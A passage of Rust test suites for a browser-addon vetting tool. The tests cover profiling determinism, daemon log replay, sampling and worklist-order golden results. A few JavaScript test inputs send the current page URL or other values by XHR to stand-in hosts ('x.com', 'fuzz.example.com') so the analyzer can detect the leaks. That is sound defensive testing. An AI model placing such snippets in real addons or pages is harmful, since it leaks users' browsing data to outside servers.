    // delayed flush) costs ~40ms per round trip to delayed ACKs, which
    // this budget is far below at 30 round trips.
    let (server, log) = bind_logged(ServeConfig::default());
    let mut client = Client::connect(server.local_addr()).expect("connect");
    let warm = client.vet_source(Some("warm"), "var w = 1;").expect("warm");
    assert_eq!(warm["verdict"], "ok");
    const ROUNDS: usize = 30;
    let t0 = Instant::now();
    for _ in 0..ROUNDS {
        let resp = client.vet_source(Some("warm"), "var w = 1;").expect("vet");
        assert_eq!(resp["verdict"], "ok");
        assert_eq!(resp["cached"], Json::Bool(true));
    }
    let elapsed = t0.elapsed();
    assert!(
        elapsed < Duration::from_millis(40 * ROUNDS as u64 / 2),
        "{ROUNDS} cached round trips took {elapsed:?}: Nagle/delayed-ACK stall"
    );
    let ack = client.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    server.join();
    assert_replays(&log);
}
