//! Golden tests for the cost-attribution layer: `vet profile`'s hotspot
//! table is a *measurement with a determinism contract* (like the
//! pipeline counters in `trace_golden`), and the daemon's timeout
//! postmortems must be reconstructable from the JSONL log alone.
//!
//! Per-bucket step tallies are order-dependent by design — FIFO and RPO
//! route the worklist differently — which is exactly why
//! [`addon_sig::profile_addon`] pins the order to RPO: the rendered
//! table must be byte-identical across requested worklist orders,
//! repeat runs, and thread counts. Wall-clock microseconds are *not*
//! part of the contract, so the golden assertions go through
//! [`JobProfile::render_table`], which exposes only steps and shares.
//!
//! [`JobProfile::render_table`]: sigtrace::JobProfile::render_table

use addon_sig::sigobs::replay::{replay_log, Outcome};
use addon_sig::sigobs::{EventLog, Level, SamplePolicy};
use addon_sig::sigserve::{Client, ServeConfig, Server, VetOutcome};
use addon_sig::{profile_addon, Error, Pipeline};
use jsanalysis::{AnalysisConfig, WorklistOrder};
use minijson::Json;
use std::sync::Arc;

const TOP_N: usize = 10;

fn table(source: &str, config: &AnalysisConfig) -> String {
    profile_addon(source, config)
        .expect("profile run")
        .render_table(TOP_N)
}

/// The tentpole determinism contract: the hotspot table is byte-identical
/// across repeat runs, across requested worklist orders (profile pins
/// RPO), and across thread counts (scoped-thread sweep vs sequential).
#[test]
fn profile_table_is_bit_identical_across_orders_and_threads() {
    let addons = corpus::addons();
    let rpo = AnalysisConfig::default().with_worklist(WorklistOrder::Rpo);
    let fifo = AnalysisConfig::default().with_worklist(WorklistOrder::Fifo);
    let sequential: Vec<String> = addons.iter().map(|a| table(a.source, &rpo)).collect();
    for (addon, golden) in addons.iter().zip(&sequential) {
        assert_eq!(
            &table(addon.source, &rpo),
            golden,
            "{}: table differs between identical runs",
            addon.name
        );
        assert_eq!(
            &table(addon.source, &fifo),
            golden,
            "{}: requested FIFO order leaked into the profile",
            addon.name
        );
    }
    let parallel: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = addons
            .iter()
            .map(|a| s.spawn(move || {
                table(
                    a.source,
                    &AnalysisConfig::default().with_worklist(WorklistOrder::Fifo),
                )
            }))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("profile thread panicked"))
            .collect()
    });
    assert_eq!(sequential, parallel, "parallel profiling diverged");
}

/// The profile's internal accounting cross-checks: bucket steps sum to
/// the worklist total, hotspots come sorted hottest-first, and the
/// rendered table carries every function the analysis actually stepped.
#[test]
fn profile_accounts_for_every_worklist_step() {
    let addon = corpus::addon_by_name("LivePagerank").expect("corpus addon");
    let config = AnalysisConfig::default();
    let profile = profile_addon(addon.source, &config).expect("profile");
    let bucket_steps: u64 = profile.hotspots.iter().map(|c| c.steps).sum();
    assert_eq!(
        bucket_steps, profile.total_steps,
        "attribution buckets must account for every worklist step"
    );
    assert!(
        profile
            .hotspots
            .windows(2)
            .all(|w| w[0].steps >= w[1].steps),
        "hotspots must come hottest-first"
    );
    assert!(!profile.phases.is_empty(), "phase timings attach");
    let rendered = profile.render_table(3);
    assert!(rendered.starts_with(&format!(
        "total worklist steps: {}",
        profile.total_steps
    )));
}

/// Budget exhaustion is the postmortem case, not a failure: the engine
/// attaches the profile to both the `Error::Budget` pipeline error and
/// the daemon's `Timeout` outcome.
#[test]
fn budget_exhaustion_still_yields_a_postmortem() {
    let addon = corpus::addon_by_name("LivePagerank").expect("corpus addon");
    let tight = AnalysisConfig::default().with_step_budget(40);

    // Pipeline level: the profile rides the error.
    let Err(Error::Budget { steps, profile, .. }) = Pipeline::new()
        .config(tight.clone())
        .profile(true)
        .run(addon.source)
    else {
        panic!("a 40-step budget must trip on a real addon")
    };
    let profile = *profile.expect("budget error must carry the postmortem");
    assert_eq!(profile.total_steps, steps as u64);
    assert!(!profile.hotspots.is_empty(), "postmortem names hotspots");

    // profile_addon level: exhaustion is a result, not an error.
    let via_helper = profile_addon(addon.source, &tight).expect("postmortem");
    assert_eq!(via_helper.total_steps, steps as u64);

    // Service level: the daemon outcome carries the same postmortem.
    let metrics = sigtrace::MetricsRegistry::new();
    match addon_sig::service_engine(addon.source, &tight, &metrics) {
        VetOutcome::Timeout { profile, .. } => {
            let p = profile.expect("timeout outcome must carry a profile");
            assert!(!p.hotspots.is_empty());
        }
        other => panic!("expected a timeout outcome, got {other:?}"),
    }
}

/// The daemon contract, end to end: a real server under a step budget
/// answers `verdict:"timeout"`, and the JSONL log alone reconstructs
/// *why* — the replay validator now demands the `job_profile` postmortem
/// on every timeout and validates its shape and placement.
#[test]
fn daemon_timeout_postmortem_replays_from_the_log_alone() {
    let log = Arc::new(EventLog::in_memory(Level::Info).with_tail_cap(4096));
    let mut cfg = ServeConfig {
        workers: 2,
        log: Some(Arc::clone(&log)),
        ..ServeConfig::default()
    };
    cfg.analysis.step_budget = Some(40);
    let server = Server::builder()
        .config(cfg)
        .addr("127.0.0.1:0")
        .analyze_traced(addon_sig::service_engine_traced)
        .start()
        .expect("bind");
    let mut client = Client::connect(server.local_addr()).expect("connect");

    let addon = corpus::addon_by_name("LivePagerank").expect("corpus addon");
    let resp = client.vet_source(Some("slow.js"), addon.source).expect("vet");
    assert_eq!(resp["verdict"], "timeout");
    let job = resp["job"].as_str().expect("job id").to_owned();
    // A quick job rides along: ok verdicts need no postmortem at info
    // level (the daemon logs theirs at debug).
    let quick = client.vet_source(Some("quick.js"), "var x = 1;").expect("vet");
    assert_eq!(quick["verdict"], "ok");
    client.shutdown().expect("shutdown");
    server.join();

    let replay = replay_log(&log.tail_lines().join("\n")).expect("log must replay");
    let t = &replay.timelines[&job];
    assert_eq!(t.validate(), Ok(Outcome::Computed));
    assert_eq!(t.verdict.as_deref(), Some("timeout"));
    assert!(
        t.profile.is_some(),
        "timeout lifecycle must carry its job_profile postmortem"
    );
    assert!(
        !t.hotspots.is_empty(),
        "the postmortem must name where the budget went"
    );
    let hot_steps: u64 = t.hotspots.iter().map(|(_, s)| s).sum();
    assert!(hot_steps <= t.profile_steps.expect("total_steps logged"));
}

/// Satellite: merged multi-node logs × `SamplePolicy`. A worker whose
/// `job_profile` stream runs under overload sampling drops most
/// postmortems — but the kept records plus the declared `suppressed`
/// counts must reconcile exactly per node, and the merged fleet log
/// must still replay with the postmortems it kept intact.
#[test]
fn merged_fleet_log_reconciles_sampled_postmortems_exactly() {
    const JOBS: u64 = 20;
    const THRESHOLD: u64 = 3;
    const KEEP_ONE_IN: u64 = 5;
    let coord = EventLog::in_memory(Level::Info).with_tail_cap(4096);
    let worker = EventLog::in_memory(Level::Info)
        .with_tail_cap(4096)
        .with_sampling(SamplePolicy {
            events: vec!["job_profile".to_owned()],
            threshold: THRESHOLD,
            keep_one_in: KEEP_ONE_IN,
            rates: vec![],
            window: std::time::Duration::from_secs(3600),
        });

    let n = |v: u64| Json::from(v as f64);
    for i in 0..JOBS {
        let job = format!("j-{i}");
        let j = || ("job", Json::from(job.as_str()));
        coord.info("job_enqueued", &[j(), ("name", Json::from("flood.js"))]);
        worker.info("job_dequeued", &[j(), ("queue_wait_us", n(7))]);
        worker.warn("job_computed", &[j(), ("verdict", Json::from("timeout"))]);
        let mut hot = Json::obj();
        hot.set("func", Json::from("loop"));
        hot.set("ctx", Json::from("0"));
        hot.set("phase", Json::from("fixpoint"));
        hot.set("steps", n(40));
        hot.set("time_us", n(90));
        worker.warn(
            "job_profile",
            &[
                j(),
                ("verdict", Json::from("timeout")),
                ("total_steps", n(41)),
                ("hotspots", Json::Arr(vec![hot])),
            ],
        );
        coord.info("job_done", &[j(), ("micros", n(120))]);
    }
    coord.flush();
    worker.flush();

    let coord_text = coord.tail_lines().join("\n");
    let worker_text = worker.tail_lines().join("\n");
    let merged = addon_sig::sigobs::merge_fleet_logs(&[
        ("coord", &coord_text),
        ("w0", &worker_text),
    ])
    .expect("fleet logs merge");
    let replay = replay_log(&merged).expect("sampled fleet log must replay");

    // Exact reconciliation: every one of the JOBS postmortems is either
    // kept or declared suppressed — by the worker, the only node that
    // writes them.
    let kept = replay
        .timelines
        .values()
        .filter(|t| t.profile.is_some())
        .count() as u64;
    let suppressed = replay.budget("job_profile");
    assert_eq!(kept + suppressed, JOBS, "kept + suppressed must cover every job");
    let expected_kept =
        JOBS.min(THRESHOLD) + JOBS.saturating_sub(THRESHOLD).div_ceil(KEEP_ONE_IN);
    assert_eq!(kept, expected_kept, "sampling schedule violated");
    assert_eq!(
        worker.suppressed_total("job_profile"),
        suppressed,
        "worker's own tally must match the declared suppressed records"
    );
    assert_eq!(
        replay.presumed_profile_sampled,
        JOBS - kept,
        "every missing postmortem must be accepted against the budget"
    );
    // Per-node accounting: every suppression declaration came from the
    // worker, and kept postmortems carry its node tag in the merge.
    for line in merged.lines() {
        let r = Json::parse(line).expect("merged line");
        match r["event"].as_str() {
            Some("suppressed") | Some("job_profile") => {
                assert_eq!(r["node"].as_str(), Some("w0"), "{line}");
            }
            _ => {}
        }
    }
    // And the kept postmortems still validate in full on the timelines.
    for t in replay.timelines.values() {
        assert_eq!(t.validate(), Ok(Outcome::Computed));
        if t.profile.is_some() {
            assert_eq!(t.hotspots, [("loop".to_owned(), 40)]);
        }
    }
}
