//! Integration tests for the structured event log: a real daemon's log
//! file must replay into consistent per-job lifecycles on its own,
//! concurrent batch jobs must carry distinct stable request IDs, and
//! cache hits must record the producing job's ID as provenance.

use addon_sig::sigobs::replay::{replay_log, validate_log, Outcome};
use addon_sig::sigobs::{EventLog, Level, SamplePolicy};
use addon_sig::sigserve::{Client, ServeConfig, Server};
use minijson::Json;
use std::path::PathBuf;
use std::sync::Arc;

/// A unique temp path per test (no tempfile crate; keyed by pid + name).
fn temp_path(name: &str) -> PathBuf {
    std::env::temp_dir().join(format!("addon_sig_obs_{}_{name}", std::process::id()))
}

fn bind_with_log(cfg: ServeConfig) -> Server {
    Server::builder()
        .config(cfg)
        .addr("127.0.0.1:0")
        .analyze_traced(addon_sig::service_engine_traced)
        .start()
        .expect("bind")
}

#[test]
fn full_lifecycle_replays_from_the_log_file_alone() {
    let log_path = temp_path("lifecycle.jsonl");
    let log = Arc::new(EventLog::to_file(&log_path, Level::Debug).expect("create log"));
    let cfg = ServeConfig {
        workers: 2,
        log: Some(log),
        ..ServeConfig::default()
    };
    let server = bind_with_log(cfg);
    let mut client = Client::connect(server.local_addr()).expect("connect");

    // One computed job, one cache hit of the same source, one error.
    let good = "var u = content.location.href; \
                var r = XHRWrapper(\"http://x.com\"); r.send(u);";
    let first = client.vet_source(Some("good.js"), good).expect("vet");
    assert_eq!(first["verdict"], "ok");
    let second = client.vet_source(Some("again.js"), good).expect("vet");
    assert_eq!(second["cached"], Json::Bool(true));
    let broken = client.vet_source(Some("broken.js"), "var = ;").expect("vet");
    assert_eq!(broken["verdict"], "error");
    client.shutdown().expect("shutdown");
    server.join();

    // The proof: reconstruct every lifecycle from the file alone.
    let text = std::fs::read_to_string(&log_path).expect("read log");
    let timelines = validate_log(&text).expect("log must replay");
    std::fs::remove_file(&log_path).ok();

    let id = |resp: &Json| resp["job"].as_str().expect("job id").to_owned();
    let computed = &timelines[&id(&first)];
    assert_eq!(computed.validate(), Ok(Outcome::Computed));
    assert_eq!(computed.verdict.as_deref(), Some("ok"));
    // Debug level: the pipeline's phase spans land in the timeline,
    // tagged with this job's ID (the sigtrace adapter at work).
    for phase in ["parse", "lower", "phase1", "phase2", "phase3"] {
        assert!(
            computed.spans.iter().any(|(s, _)| s == phase),
            "missing span {phase} in {:?}",
            computed.spans
        );
    }

    let hit = &timelines[&id(&second)];
    assert_eq!(hit.validate(), Ok(Outcome::CacheHit));
    assert_eq!(
        hit.producer.as_deref(),
        Some(id(&first).as_str()),
        "cache hit must record the producing job as provenance"
    );

    let errored = &timelines[&id(&broken)];
    assert_eq!(errored.validate(), Ok(Outcome::Computed));
    assert_eq!(errored.verdict.as_deref(), Some("error"));
}

#[test]
fn concurrent_batch_jobs_carry_distinct_stable_ids() {
    let log = Arc::new(EventLog::in_memory(Level::Info).with_tail_cap(4096));
    let cfg = ServeConfig {
        workers: 4,
        log: Some(Arc::clone(&log)),
        ..ServeConfig::default()
    };
    let server = bind_with_log(cfg);
    let addr = server.local_addr();

    // Two concurrent clients, each submitting one vet_batch of distinct
    // sources: every result must carry its own request ID, and the IDs
    // must be unique across the whole daemon.
    let ids: Vec<String> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..2)
            .map(|c| {
                scope.spawn(move || {
                    let mut client = Client::connect(addr).expect("connect");
                    let mut req = Json::obj();
                    req.set("kind", Json::from("vet_batch"));
                    req.set(
                        "items",
                        Json::Arr(
                            (0..8)
                                .map(|i| {
                                    let mut o = Json::obj();
                                    o.set("name", Json::from(format!("c{c}i{i}")));
                                    o.set("source", Json::from(format!("var v{c}_{i} = {i};")));
                                    o
                                })
                                .collect(),
                        ),
                    );
                    let resp = client.request(&req).expect("batch");
                    assert_eq!(resp["kind"], "vet_batch_result");
                    resp["results"]
                        .as_array()
                        .expect("results")
                        .iter()
                        .map(|r| {
                            assert_eq!(r["verdict"], "ok", "{}", r.to_string_compact());
                            r["job"].as_str().expect("job id").to_owned()
                        })
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().expect("client"))
            .collect()
    });

    assert_eq!(ids.len(), 16);
    let unique: std::collections::BTreeSet<&String> = ids.iter().collect();
    assert_eq!(unique.len(), 16, "request IDs must be distinct: {ids:?}");
    for id in &ids {
        let n = id.strip_prefix("j-").expect("j-<n> format");
        n.parse::<u64>().expect("numeric suffix");
    }

    let mut shut = Client::connect(addr).expect("connect");
    shut.shutdown().expect("shutdown");
    server.join();

    // Every response ID resolves to a valid lifecycle in the log.
    let timelines = validate_log(&log.tail_lines().join("\n")).expect("log must replay");
    for id in &ids {
        let t = timelines.get(id).unwrap_or_else(|| panic!("{id} not in log"));
        t.validate().expect("well-formed lifecycle");
    }
}

#[test]
fn overloaded_daemon_keeps_a_sampled_but_exact_log() {
    // A real daemon with a tiny queue under a batch flood: the event
    // log runs under overload sampling, so most `job_rejected` records
    // are dropped — but the kept records plus the declared `suppressed`
    // counts must reconcile exactly with the number of shed jobs, and
    // the sampled log must still replay cleanly.
    const THRESHOLD: u64 = 4;
    const KEEP_ONE_IN: u64 = 8;
    let log = Arc::new(
        EventLog::in_memory(Level::Info)
            .with_tail_cap(8192)
            .with_sampling(SamplePolicy {
                events: vec!["job_rejected".to_owned()],
                threshold: THRESHOLD,
                keep_one_in: KEEP_ONE_IN,
                rates: vec![],
                window: std::time::Duration::from_secs(3600),
            }),
    );
    let cfg = ServeConfig {
        workers: 2,
        queue_cap: 2,
        log: Some(Arc::clone(&log)),
        ..ServeConfig::default()
    };
    let server = bind_with_log(cfg);
    let mut client = Client::connect(server.local_addr()).expect("connect");

    // Batches submit every item before awaiting any, so a 128-item
    // batch against a 2-slot queue sheds most of its jobs. One
    // submitter means the shed pre-check never races, so the daemon's
    // overloaded-response count is the exact ground truth. Retry a few
    // rounds in case the workers drain unexpectedly fast.
    let mut shed = 0usize;
    let mut accepted = 0usize;
    for round in 0..4 {
        if shed as u64 > THRESHOLD {
            break;
        }
        let mut req = Json::obj();
        req.set("kind", Json::from("vet_batch"));
        req.set(
            "items",
            Json::Arr(
                (0..128)
                    .map(|i| {
                        let mut o = Json::obj();
                        o.set("name", Json::from(format!("flood{round}_{i}")));
                        o.set("source", Json::from(format!("var flood{round}_{i} = {i};")));
                        o
                    })
                    .collect(),
            ),
        );
        let resp = client.request(&req).expect("flood batch");
        for r in resp["results"].as_array().expect("results") {
            if r["kind"] == "overloaded" {
                shed += 1;
            } else {
                assert_eq!(r["verdict"], "ok");
                accepted += 1;
            }
        }
    }
    assert!(
        shed as u64 > THRESHOLD,
        "flood must shed past the sampling threshold (shed {shed})"
    );
    client.shutdown().expect("shutdown");
    server.join();

    // The log stays O(sample rate), not O(flood): kept rejected records
    // follow the threshold-then-1-in-N schedule exactly, and every
    // dropped record is covered by a declared `suppressed` count.
    let replay = replay_log(&log.tail_lines().join("\n")).expect("sampled log must replay");
    let kept_rejected = replay
        .timelines
        .values()
        .filter(|t| matches!(t.validate(), Ok(Outcome::Rejected)))
        .count() as u64;
    let suppressed = *replay.suppressed.get("job_rejected").unwrap_or(&0);
    assert_eq!(
        kept_rejected + suppressed,
        shed as u64,
        "kept + suppressed must equal the daemon's shed count exactly"
    );
    let expected_kept = (shed as u64).min(THRESHOLD)
        + (shed as u64).saturating_sub(THRESHOLD).div_ceil(KEEP_ONE_IN);
    assert_eq!(kept_rejected, expected_kept, "sampling schedule violated");
    assert_eq!(
        log.suppressed_total("job_rejected"),
        suppressed,
        "log's own tally must match the declared suppressed records"
    );
    assert_eq!(replay.presumed_rejected, 0, "no enqueued-only orphans");
    let computed = replay
        .timelines
        .values()
        .filter(|t| matches!(t.validate(), Ok(Outcome::Computed)))
        .count();
    assert_eq!(computed, accepted, "every accepted flood job computed");
}

#[test]
fn submit_time_and_worker_side_hits_both_record_provenance() {
    let log = Arc::new(EventLog::in_memory(Level::Info).with_tail_cap(4096));
    let cfg = ServeConfig {
        workers: 2,
        log: Some(Arc::clone(&log)),
        ..ServeConfig::default()
    };
    let server = bind_with_log(cfg);
    let mut client = Client::connect(server.local_addr()).expect("connect");

    let source = "var a = 1; var b = a;";
    let producer = client.vet_source(Some("p"), source).expect("vet");
    let producer_id = producer["job"].as_str().expect("job id").to_owned();
    // Several resubmissions: all hits, all crediting the same producer.
    let mut hit_ids = Vec::new();
    for i in 0..3 {
        let resp = client.vet_source(Some(&format!("h{i}")), source).expect("vet");
        assert_eq!(resp["cached"], Json::Bool(true));
        hit_ids.push(resp["job"].as_str().expect("job id").to_owned());
    }
    client.shutdown().expect("shutdown");
    server.join();

    let timelines = validate_log(&log.tail_lines().join("\n")).expect("log must replay");
    for id in &hit_ids {
        let t = &timelines[id];
        assert_eq!(t.validate(), Ok(Outcome::CacheHit));
        assert_eq!(
            t.producer.as_deref(),
            Some(producer_id.as_str()),
            "{id} must credit {producer_id}"
        );
    }
}
