//! Golden tests locking in the performance overhaul's "results are
//! bit-identical" guarantee, plus a step-budget regression gate.
//!
//! The RPO worklist, interned contexts, copy-on-write heap and symbol
//! interning are all pure performance work: any worklist order reaches
//! the same fixpoint (the transfer functions are monotone), and running
//! addons on parallel threads must not change a single verdict. These
//! tests pin that down against the naive sequential FIFO configuration.

use addon_sig::Pipeline;
use jsanalysis::{AnalysisConfig, WorklistOrder};
use jssig::{compare, Verdict};

fn config(order: WorklistOrder) -> AnalysisConfig {
    AnalysisConfig::default().with_worklist(order)
}

/// Signature text, verdict, and base-analysis step count for one addon
/// under one configuration.
fn outcome(addon: &corpus::Addon, order: WorklistOrder) -> (String, Verdict, usize) {
    let report = Pipeline::new()
        .config(config(order))
        .run(addon.source)
        .unwrap_or_else(|e| panic!("{}: pipeline failed: {e}", addon.name));
    let cmp = compare(
        &report.signature,
        &addon.manual,
        addon.real_extra_flow,
        addon.real_extra_sink,
    );
    (report.signature.to_string(), cmp.verdict, report.analysis.steps)
}

/// The RPO worklist (the default) must produce exactly the signatures and
/// verdicts of the FIFO baseline on every corpus addon -- while taking
/// fewer fixpoint steps to get there.
#[test]
fn rpo_matches_fifo_on_every_addon() {
    for addon in corpus::addons() {
        let (sig_rpo, verdict_rpo, steps_rpo) = outcome(&addon, WorklistOrder::Rpo);
        let (sig_fifo, verdict_fifo, steps_fifo) = outcome(&addon, WorklistOrder::Fifo);
        assert_eq!(
            sig_rpo, sig_fifo,
            "{}: signature differs between worklist orders",
            addon.name
        );
        assert_eq!(
            verdict_rpo, verdict_fifo,
            "{}: verdict differs between worklist orders",
            addon.name
        );
        assert!(
            steps_rpo <= steps_fifo,
            "{}: RPO took more steps than FIFO ({steps_rpo} > {steps_fifo})",
            addon.name
        );
    }
}

/// Vetting the corpus on parallel threads (as `vet --corpus` and the
/// perf_snapshot tool do) must give the same signatures and verdicts as
/// a sequential sweep: the symbol interner is the only shared state, and
/// interning order must never leak into results.
#[test]
fn parallel_vetting_matches_sequential() {
    let addons = corpus::addons();
    let sequential: Vec<(String, Verdict, usize)> = addons
        .iter()
        .map(|a| outcome(a, WorklistOrder::Rpo))
        .collect();
    let parallel: Vec<(String, Verdict, usize)> = std::thread::scope(|s| {
        let handles: Vec<_> = addons
            .iter()
            .map(|a| s.spawn(move || outcome(a, WorklistOrder::Rpo)))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("vetting thread panicked"))
            .collect()
    });
    for ((addon, seq), par) in addons.iter().zip(&sequential).zip(&parallel) {
        assert_eq!(seq, par, "{}: parallel run diverged from sequential", addon.name);
    }
}

/// Regression gate on base-analysis step counts under the default (RPO)
/// configuration. Ceilings are the measured counts plus ~25% headroom;
/// blowing one means a scheduling or transfer-function change made the
/// fixpoint substantially more expensive and needs a deliberate re-bless.
#[test]
fn step_budgets_hold() {
    // (addon, measured steps at time of writing, ceiling)
    let budgets = [
        ("LivePagerank", 2650, 3310),
        ("LessSpamPlease", 577, 720),
        ("YoutubeDownloader", 694, 870),
        ("VKVideoDownloader", 603, 755),
        ("HyperTranslate", 666, 830),
        ("Chess.comNotifier", 548, 685),
        ("CoffeePodsDeals", 1184, 1480),
        ("oDeskJobWatcher", 321, 400),
        ("PinPoints", 1024, 1280),
        ("GoogleTransliterate", 756, 945),
    ];
    let addons = corpus::addons();
    assert_eq!(addons.len(), budgets.len(), "budget table out of date");
    for (name, _, ceiling) in budgets {
        let addon = addons
            .iter()
            .find(|a| a.name == name)
            .unwrap_or_else(|| panic!("unknown addon in budget table: {name}"));
        let (_, _, steps) = outcome(addon, WorklistOrder::Rpo);
        assert!(
            steps <= ceiling,
            "{name}: base analysis took {steps} steps, budget is {ceiling}; \
             if the increase is intentional, re-bless the table in this test"
        );
    }
}

/// A generous analysis budget must be invisible: running every corpus
/// addon with a step budget far above its real step count (and an hour
/// of deadline) must reproduce the unbudgeted signatures, verdicts, and
/// step counts bit for bit. The budget checks may only abort the
/// fixpoint, never perturb it.
#[test]
fn generous_budget_is_bit_identical() {
    for addon in corpus::addons() {
        let (sig, verdict, steps) = outcome(&addon, WorklistOrder::Rpo);
        let budgeted_config = AnalysisConfig::default()
            .with_step_budget(steps * 10)
            .with_deadline(std::time::Duration::from_secs(3600));
        let report = Pipeline::new()
            .config(budgeted_config)
            .run(addon.source)
            .unwrap_or_else(|e| panic!("{}: budgeted pipeline failed: {e}", addon.name));
        let cmp = compare(
            &report.signature,
            &addon.manual,
            addon.real_extra_flow,
            addon.real_extra_sink,
        );
        assert_eq!(
            report.signature.to_string(),
            sig,
            "{}: signature changed under a generous budget",
            addon.name
        );
        assert_eq!(cmp.verdict, verdict, "{}: verdict changed", addon.name);
        assert_eq!(report.analysis.steps, steps, "{}: step count changed", addon.name);
    }
}

/// The headline step reductions from the RPO switch, locked for the two
/// addons called out in the performance work: the worst case of the
/// corpus (LivePagerank) and a typical small addon (Chess.comNotifier).
#[test]
fn rpo_beats_fifo_on_headline_addons() {
    for name in ["LivePagerank", "Chess.comNotifier"] {
        let addon = corpus::addon_by_name(name).expect("benchmark exists");
        let (_, _, steps_rpo) = outcome(&addon, WorklistOrder::Rpo);
        let (_, _, steps_fifo) = outcome(&addon, WorklistOrder::Fifo);
        assert!(
            steps_rpo * 2 < steps_fifo,
            "{name}: expected RPO to at least halve the step count \
             (rpo {steps_rpo} vs fifo {steps_fifo})"
        );
    }
}
