//! Property tests over the whole pipeline: a small random-program
//! generator produces syntactically valid addon code, and the pipeline
//! must analyze every generated program without panicking, within the
//! step budget, and with internally consistent results.

use proptest::prelude::*;

/// A tiny generator of valid JavaScript programs in the analyzed subset.
/// Grows statements recursively from templates over a fixed identifier
/// pool so that programs are closed and interesting (conditionals, loops,
/// closures, property traffic, event handlers, XHR use).
fn arb_program() -> impl Strategy<Value = String> {
    let expr = prop_oneof![
        Just("1".to_owned()),
        Just("\"lit\"".to_owned()),
        Just("a".to_owned()),
        Just("b + 1".to_owned()),
        Just("o.p".to_owned()),
        Just("o[k]".to_owned()),
        Just("content.location.href".to_owned()),
        Just("helper(a)".to_owned()),
        Just("Math.random()".to_owned()),
        Just("a + \"suffix\"".to_owned()),
        Just("typeof a".to_owned()),
        Just("{ p: a, q: 2 }".to_owned()),
        Just("[a, b, 3]".to_owned()),
    ];
    let stmt = expr.prop_flat_map(|e| {
        prop_oneof![
            Just(format!("var x{} = {e};", e.len() % 7)),
            Just(format!("a = {e};")),
            Just(format!("o.p = {e};")),
            Just(format!("o[k] = {e};")),
            Just(format!("use({e});")),
            Just(format!("if ({e}) {{ a = 1; }} else {{ b = 2; }}")),
            Just(format!("while (Math.random() < 0.5) {{ a = {e}; }}")),
            Just(format!(
                "for (var i = 0; i < 3; i++) {{ if (i == 1) continue; b = {e}; }}"
            )),
            Just(format!("try {{ o.p = {e}; }} catch (err) {{ b = err; }}")),
            Just(format!(
                "switch ({e}) {{ case 1: a = 1; break; default: b = 2; }}"
            )),
            Just("for (var key in o) { use(o[key]); }".to_owned()),
            Just(format!(
                "setTimeout(function () {{ a = {e}; }}, 100);"
            )),
        ]
    });
    (
        prop::collection::vec(stmt, 1..10),
        any::<bool>(),
        any::<bool>(),
    )
        .prop_map(|(stmts, with_helper, with_xhr)| {
            let mut src = String::from(
                "var a = 0; var b = 0; var k = \"p\"; var o = { p: 1, q: 2 };\n\
                 function use(v) { return v; }\n",
            );
            if with_helper {
                src.push_str(
                    "function helper(v) { if (v) { return v; } return \"none\"; }\n",
                );
            } else {
                src.push_str("var helper = function (v) { return use(v); };\n");
            }
            if with_xhr {
                src.push_str(
                    "var req = new XMLHttpRequest();\n\
                     req.open(\"GET\", \"http://fuzz.example.com/api?x=\" + a);\n\
                     req.send(null);\n",
                );
            }
            for s in stmts {
                src.push_str(&s);
                src.push('\n');
            }
            src
        })
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 48,
        .. ProptestConfig::default()
    })]

    #[test]
    fn pipeline_total_on_generated_programs(src in arb_program()) {
        let report = addon_sig::analyze_addon(&src)
            .unwrap_or_else(|e| panic!("pipeline failed: {e}\nprogram:\n{src}"));

        // Internal consistency: every PDG edge endpoint is a valid
        // statement, annotations render, the signature prints.
        let nstmts = report.lowered.program.stmt_count() as u32;
        for e in report.pdg.edges() {
            prop_assert!(e.from.0 < nstmts);
            prop_assert!(e.to.0 < nstmts);
            let _ = e.ann.to_string();
        }
        let _ = report.signature.to_string();
        let _ = report.signature.to_json();

        // Read/write sets only mention reachable statements... (they may
        // also mention call-result attribution nodes; all must be valid.)
        for stmt in report.analysis.rw.keys() {
            prop_assert!(stmt.0 < nstmts);
        }

        // The XHR block, when present, must yield a send sink with the
        // fuzz domain prefix.
        if src.contains("fuzz.example.com") {
            let found = report.analysis.sinks.iter().any(|s| {
                s.domain
                    .known_text()
                    .is_some_and(|t| t.starts_with("http://fuzz.example.com"))
            });
            prop_assert!(found, "expected fuzz sink in:\n{src}");
        }
    }

    #[test]
    fn lexer_never_panics(src in "\\PC*") {
        let _ = jsparser::lex(&src);
    }

    #[test]
    fn parser_never_panics(src in "\\PC*") {
        let _ = jsparser::parse(&src);
    }

    #[test]
    fn parser_total_on_token_soup(
        tokens in prop::collection::vec(
            prop_oneof![
                Just("var"), Just("x"), Just("="), Just("1"), Just(";"),
                Just("{"), Just("}"), Just("("), Just(")"), Just("if"),
                Just("else"), Just("function"), Just("+"), Just("return"),
                Just("while"), Just("for"), Just("try"), Just("catch"),
                Just("\"s\""), Just(","), Just("."), Just("o"), Just("["),
                Just("]"), Just("throw"), Just("new"), Just("!"), Just("=="),
            ],
            0..40,
        )
    ) {
        let src = tokens.join(" ");
        let _ = jsparser::parse(&src);
    }
}
