//! Property tests over the whole pipeline: a small random-program
//! generator produces syntactically valid addon code, and the pipeline
//! must analyze every generated program without panicking, within the
//! step budget, and with internally consistent results.
//!
//! Gated behind the `fuzz` feature (run with
//! `cargo test --features fuzz`): the suite is deterministic (seeded
//! minicheck streams) but heavier than the rest of tier-1.

#![cfg(feature = "fuzz")]

use minicheck::Gen;

/// A tiny generator of valid JavaScript programs in the analyzed subset.
/// Grows statements from templates over a fixed identifier pool so that
/// programs are closed and interesting (conditionals, loops, closures,
/// property traffic, event handlers, XHR use).
fn arb_expr(g: &mut Gen) -> String {
    g.pick(&[
        "1",
        "\"lit\"",
        "a",
        "b + 1",
        "o.p",
        "o[k]",
        "content.location.href",
        "helper(a)",
        "Math.random()",
        "a + \"suffix\"",
        "typeof a",
        "{ p: a, q: 2 }",
        "[a, b, 3]",
    ])
    .to_string()
}

fn arb_stmt(g: &mut Gen) -> String {
    let e = arb_expr(g);
    match g.below(12) {
        0 => format!("var x{} = {e};", e.len() % 7),
        1 => format!("a = {e};"),
        2 => format!("o.p = {e};"),
        3 => format!("o[k] = {e};"),
        4 => format!("use({e});"),
        5 => format!("if ({e}) {{ a = 1; }} else {{ b = 2; }}"),
